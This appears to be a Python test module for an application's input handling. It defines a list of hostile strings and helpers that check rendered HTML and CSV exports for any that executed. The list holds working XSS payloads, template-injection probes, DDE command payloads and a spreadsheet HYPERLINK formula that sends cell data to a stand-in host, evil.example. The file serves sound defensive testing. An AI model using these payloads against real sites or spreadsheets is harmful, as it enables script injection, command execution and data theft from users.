"""Hostile strings for every free-text field, and the checks that none of them ran or broke out."""
import csv
import io

from bs4 import BeautifulSoup

# Each executable payload calls alert() or names "xss", so the checks can tell it from the page's own code.
HOSTILE = (
    "<script>alert('xss-script')</script>",
    '"><img src=x onerror="alert(\'xss-img\')">',
    "' onmouseover='alert(1)' data-x='xss-attr",
    "javascript:alert('xss-js')",
    '<a href="javascript:alert(\'xss-link\')">xss-link</a>',
    '<svg onload="alert(\'xss-svg\')"><script>alert(1)</script></svg>',
    "</textarea></title><script>alert('xss-close')</script>",
    "<iframe src=\"javascript:alert('xss-frame')\"></iframe><style>body{display:none}</style>",
    "{{7*7}}xss-jinja {% for x in range(3) %}xss-loop{% endfor %} ${7*7} #{7*7}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"xss-formula\")",
    "+cmd|' /C calc'!A0 xss-plus",
    "-2+3+cmd|' /C calc'!A0 xss-minus",
    "@SUM(1+1)*cmd|' /C calc'!A0 xss-at",
    "\t=1+1 xss-tab",
    "\r=1+1 xss-cr",
    "\u202egnp.exe xss-rtl \u202d",
    "nul\x00byte xss-nul",
    "emoji 👪🏽 ♿ 🧒🏿 \U0001f9d1\u200d\U0001f9bd xss-emoji",
    "]]><![CDATA[<script>alert('xss-cdata')</script>]]>",
    "&lt;script&gt;alert('xss-entity')&lt;/script&gt; &#x3C;script&#x3E;",
    "xss-long " + "A" * 6000,
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data")


def fit(text, limit):
    """The payload cut to a column's size (a long one would be refused by the form, as it should be)."""
    return text[:limit]


def single_line(text):
    return " ".join(text.replace("\x00", "").split()) or "xss"


def executable_problems(html, where=""):
    """Everything in a page that a browser would run from our corpus: scripts, handlers, javascript: links."""
    page = BeautifulSoup(html, "html.parser")
    problems = []
    for script in page.find_all("script"):
        if "alert" in script.get_text() or "xss" in script.get_text() or "evil" in (script.get("src") or ""):
            problems.append(f"{where}: a script from the corpus: {str(script)[:120]}")
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                problems.append(f"{where}: <{tag.name} {name}=…> event handler")
            if name.lower() in LINK_ATTRIBUTES and "".join(value.split()).lower().startswith("javascript:"):
                problems.append(f"{where}: <{tag.name} {name}={value[:60]!r}>")
        if tag.name in ("iframe", "object", "embed") or (tag.name == "svg" and "xss" in str(tag)):
            problems.append(f"{where}: <{tag.name}> from the corpus")
    if tag_with_text(page, "style", "display:none"):
        problems.append(f"{where}: a style element from the corpus")
    text = page.get_text(" ")
    for evaluated in ("49xss-jinja", "xss-loopxss-loop"):
        if evaluated in text.replace(" ", ""):
            problems.append(f"{where}: a template expression was evaluated ({evaluated})")
    return problems


def tag_with_text(page, name, text):
    return [tag for tag in page.find_all(name) if text in tag.get_text().replace(" ", "")]


def formula_cells(csv_text):
    """Cells a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
